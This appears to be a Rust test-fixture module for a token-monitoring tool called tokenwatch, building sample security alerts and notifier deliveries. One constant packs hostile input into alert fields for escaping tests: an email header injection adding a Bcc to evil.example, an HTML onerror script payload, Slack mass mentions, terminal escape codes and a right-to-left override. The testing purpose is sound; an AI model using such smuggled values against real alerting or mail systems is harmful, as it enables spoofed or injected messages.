//! Alerts to send.

use std::sync::Arc;
use std::time::Duration;

use tokenwatch::alert::{Alert, Finding, Mode, Severity, Source};
use tokenwatch::clock::{Clock, System};
use tokenwatch::config::{Channel, ChannelKind};
use tokenwatch::event::Time;
use tokenwatch::notifier::{Delivery, NewDelivery};

/// What an attacker would like to see in the name of a token, each for another reader.
pub const HOSTILE: &str = "<!channel> <@U1>\r\nBcc: x@evil.example\r\n\r\n<img src=x onerror=alert(1)>\u{1b}[31m\u{9b}2J\u{202e}\u{0}";

pub fn clock() -> Arc<dyn Clock> {
    Arc::new(System::default())
}

pub fn alert(id: &str) -> Alert {
    let finding = Finding {
        detector: "new_network".into(),
        severity: Severity::High,
        confidence: 95,
        score: 20.03,
        observed: "first use from 127.0.0.66: select on public.invoices".into(),
        expected: "127.0.0.0/26 (412 times, 2023-11-01 to 2023-11-14)".into(),
        bound: 0.0,
        evidence: vec![Source::File { file: "postgresql.csv".into(), offset: 48_213 }],
        attack: vec!["T1078".into()],
        advice: "ask the owner of the token".into(),
        weight: None,
        behaviour: Vec::new(),
    };
    Alert {
        id: id.into(),
        update: false,
        revision: 0,
        time: Time(1_700_000_000_000_000),
        token: "billing".into(),
        owner: Some("team-billing".into()),
        contact: None,
        severity: Severity::High,
        confidence: 95,
        score: 20.03,
        detectors: vec!["new_network".into()],
        summary: "billing: first use from 127.0.0.66: select on public.invoices".into(),
        sources: finding.evidence.clone(),
        findings: vec![finding],
        attack: vec!["T1078".into()],
        mode: Mode::Enforcing,
        tamper_proof: true,
        authenticated: true,
        address: Some("127.0.0.66".into()),
        database: Some("app".into()),
        resembles: None,
        suppression: None,
    }
}

pub fn hostile(id: &str) -> Alert {
    let mut alert = alert(id);
    alert.token = HOSTILE.into();
    alert.summary = HOSTILE.into();
    alert.findings[0].observed = HOSTILE.into();
    alert.findings[0].advice = HOSTILE.into();
    alert.address = Some(HOSTILE.into());
    alert.owner = Some(HOSTILE.into());
    alert
}

pub fn channel(name: &str, kind: ChannelKind) -> Channel {
    Channel { name: name.into(), min_severity: Severity::Low, timeout: Duration::from_secs(5), kind }
}

/// The alert as it waits in the outbox of this channel.
pub fn delivery(channel: &Channel, alert: &Alert) -> Delivery {
    let new = tokenwatch::notifier::deliveries(alert, std::slice::from_ref(channel), &[], Time(0)).remove(0);
    waiting(new)
}

pub fn waiting(new: NewDelivery) -> Delivery {
    Delivery {
        key: new.key,
        destination: new.destination,
        alert_id: new.alert_id,
        severity: new.severity,
        created: Time(0),
        due: new.due,
        expires: new.expires,
        attempts: 0,
        payload: new.payload,
    }
}
